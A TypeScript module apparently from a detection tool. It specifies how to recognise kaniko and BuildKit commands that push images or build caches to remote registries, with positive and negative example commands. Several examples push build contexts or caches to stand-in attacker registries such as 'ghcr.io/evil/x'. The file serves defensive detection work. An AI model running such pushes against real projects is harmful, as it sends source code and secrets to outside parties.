/** Image builders that push what they build (kaniko, BuildKit). Part of the push-tool table (../push-tools.ts). */
import type { PushToolSpec } from '../types.js';
import { OUTPUT_PUSH } from './flags.js';

export const builderTools: readonly PushToolSpec[] = [
  {
    tool: 'kaniko',
    description: 'kaniko executor building and pushing an image (`--destination`).',
    binaries: ['executor', 'kaniko'],
    syntax: {
      valueFlags: [
        '-d',
        '--destination',
        '-c',
        '--context',
        '-f',
        '--dockerfile',
        '--build-arg',
        '--cache-repo',
        '--target',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        {
          words: [],
          remote: { flag: ['-d', '--destination'] },
          requireAnyFlag: [{ flags: ['-d', '--destination'] }],
          excludeFlags: ['--no-push'],
        },
        // With the cache on, each layer built goes to the cache repository, even with `--no-push`.
        {
          words: [],
          remote: { flag: ['--cache-repo'] },
          requireAnyFlag: [{ flags: ['--cache'] }],
          excludeFlags: ['--no-push-cache'],
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    examples: {
      push: [
        '--context dir:///workspace --destination gcr.io/acme/app:1',
        '--no-push=false -d gcr.io/acme/app:1',
        '--no-push --no-push=false -d ghcr.io/evil/x:1',
        '--context dir:///srv --no-push --cache=true --cache-repo ghcr.io/evil/cache',
      ],
      notPush: [
        '--context . --no-push --destination x/y',
        '--no-push=false --no-push -d ghcr.io/acme/x:1',
        '--context . --no-push --cache=true --cache-repo ghcr.io/acme/cache --no-push-cache',
        '--context . --no-push --cache-repo ghcr.io/acme/cache',
      ],
    },
  },
  {
    tool: 'buildkit',
    description:
      "BuildKit's client `buildctl build` with an image output that pushes (`push=true` or `type=registry`).",
    binaries: ['buildctl'],
    syntax: {
      valueFlags: [
        '--addr',
        '--frontend',
        '--opt',
        '--local',
        '--output',
        '-o',
        '--export-cache',
        '--import-cache',
        '--secret',
        '--ssh',
        '--progress',
        '--metadata-file',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        {
          words: ['build'],
          // The image name sits inside the output value (`type=image,name=REF,push=true`): its registry is
          // the destination (with none, it would be the first connect: BuildKit's own address with
          // `--addr tcp://buildkitd:1234`).
          remote: { flag: ['--output', '-o'], key: 'name' },
          requireAnyFlag: [
            { flags: ['--output', '-o'], valueContains: ['type=registry'] },
            { flags: ['--output', '-o'], valueMatches: OUTPUT_PUSH },
          ],
        },
        // The build cache exported to a registry: the layers built, with what they copied from the context.
        {
          words: ['build'],
          remote: { flag: ['--export-cache'], key: 'ref' },
          requireAnyFlag: [{ flags: ['--export-cache'], valueContains: ['type=registry'] }],
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    builderClient: true,
    examples: {
      push: [
        'build --frontend dockerfile.v0 --local context=. --output type=image,name=ghcr.io/evil/x:1,push=true',
        '--addr tcp://buildkitd.buildkit:1234 build --local context=. -o type=image,name=ghcr.io/evil/x,push=1',
        'build --frontend dockerfile.v0 --local context=. --output type=image,name=ghcr.io/evil/x:1,push=1',
        'build --frontend=dockerfile.v0 --local context=. -o type=registry,name=quay.io/evil/x',
        'build --frontend dockerfile.v0 --local context=/srv --export-cache type=registry,ref=ghcr.io/evil/c:1',
      ],
      notPush: [
        'build --frontend dockerfile.v0 --local context=. --output type=docker,dest=/tmp/x.tar',
        'du',
        'build --frontend dockerfile.v0 --local context=. --import-cache type=registry,ref=ghcr.io/acme/c',
      ],
    },
  },
];
